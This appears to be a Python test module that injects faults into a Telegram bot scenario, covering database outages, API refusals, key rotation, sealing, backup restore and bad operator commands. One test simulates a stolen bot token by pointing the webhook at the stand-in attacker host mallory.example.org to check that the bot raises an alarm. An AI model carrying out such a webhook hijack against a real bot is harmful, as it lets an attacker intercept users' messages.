"""What goes wrong with a canary in hand, and what the operator does beside it; the bot goes on."""

import asyncio
from collections.abc import Sequence

from bot.telegram_api.client import make_bot
from sandbox.faults import Fault
from tests.attacks.oddities import refusals, unreadable
from tests.attacks.scene import Scene
from tests.attacks.somebody import Somebody
from tests.attacks.victim import WAIT_SECONDS
from tests.spoiling import spoil


class Trouble:
    """Its chapters need some people, the last of whom it hits hardest."""

    def __init__(self, scene: Scene, people: Sequence[Somebody]) -> None:
        self._scene = scene
        self._people = people
        self._unlucky = people[-1]

    async def whole(self) -> None:
        await self._the_database_goes_away()
        await self.most()
        await self._the_operator_is_busy()
        await self._somebody_else_holds_the_token()
        await self._an_installation_comes_back()

    async def most(self) -> None:
        """Let happen what takes no time."""
        await self._updates_cannot_be_read()
        await asyncio.gather(*map(self._telegram_refuses, self._people, refusals()))
        await self._a_handler_fails()
        await self._keys_turn()
        await self._the_bot_is_sealed()

    async def _updates_cannot_be_read(self) -> None:
        for raw in unreadable(self._scene.canaries):
            self._scene.telegram.inject(raw)
        await self._scene.telegram.settled(WAIT_SECONDS)

    async def _telegram_refuses(self, who: Somebody, fault: Fault) -> None:
        fault.chat = who.person.user_id
        await who.is_asked_for_a_name()
        self._scene.telegram.faults.add(fault)
        await who.leaves_a_name()
        assert fault.hits > 0

    async def _the_database_goes_away(self) -> None:
        """Let a name be typed while nothing can be written; it is taken when that is over."""
        await self._unlucky.is_asked_for_a_name()
        async with self._scene.without_database():
            await self._unlucky.person.says(name := self._unlucky.canaries.cyrillic())
            await self._scene.telegram.until(
                lambda: self._scene.log_says("the database is away"), WAIT_SECONDS
            )
        await self._unlucky.reads(name)

    async def _a_handler_fails(self) -> None:
        """Let a name be typed by somebody of whom another detail cannot be read any more."""
        await self._unlucky.leaves_an_email()
        await self._unlucky.is_asked_for_a_name()
        person_id = await self._scene.id_of(self._unlucky.person)
        await spoil(self._scene.storage, "person", "email", "id", person_id)
        await self._unlucky.leaves_a_name()
        await self._unlucky.reads("Something went wrong")

    async def _keys_turn(self) -> None:
        await self._scene.operator.does("keys", "rotate")
        await self._scene.operator.does("backup")

    async def _the_operator_is_busy(self) -> None:
        """Let commands be called wrongly, too."""
        does, mint = self._scene.operator.does, self._scene.canaries
        wrong = {"DATABASE_URL": f"postgresql://{mint.word()}:{mint.word()}@localhost"}
        await does("keys", "list", codes=(1,), TIME_ZONE=mint.word(), LANGUAGES=mint.cyrillic())
        await does("keys", "list", codes=(1,), **wrong)
        await does("keys", "list")
        await does("upgrade")

    async def _somebody_else_holds_the_token(self) -> None:
        """Let updates go to a thief until the operator has looked; what is typed meanwhile has no answer."""
        telegram = self._scene.telegram
        async with make_bot(telegram.token, telegram.url) as thief:
            await thief.set_webhook("https://mallory.example.org/in")
            await telegram.until(lambda: self._scene.log_says("alarm: nothing is sent"), WAIT_SECONDS)
            await thief.delete_webhook()
        await self._unlucky.says(self._unlucky.canaries.cyrillic())
        await self._scene.operator.does("stats")
        assert "the bot sends again" in await self._scene.operator.does("lift", "alarm")

    async def _an_installation_comes_back(self) -> None:
        """Bring it back beside the other one, and destroy it."""
        scene = self._scene
        elsewhere = scene.elsewhere()
        told = await scene.operator.does("keys", "list")
        [installation] = [line for line in told.splitlines() if line.startswith("Installation: ")]
        fingerprint = installation.partition(": ")[2]
        identity = ("--identity", str(scene.keeper.file), "--installation", fingerprint)
        await scene.operator.does("restore", "backups", *identity, "--check", **elsewhere)
        await scene.operator.does("restore", "backups", *identity, **elsewhere)
        scene.looks()
        # A database has one second to answer, and is named where it does not.
        await scene.operator.does("destroy", "--yes", codes=(0, 1), **elsewhere)

    async def _the_bot_is_sealed(self) -> None:
        await self._scene.operator.does("seal")
        for who in self._people[:2]:
            await who.says(who.canaries.cyrillic())
        if self._scene.operator.passphrase is not None:
            wrong = f"seven grey rivers {self._scene.canaries.word()}"
            await self._scene.operator.does("unseal", line=wrong, codes=(1,))
        await self._scene.operator.does("unseal")
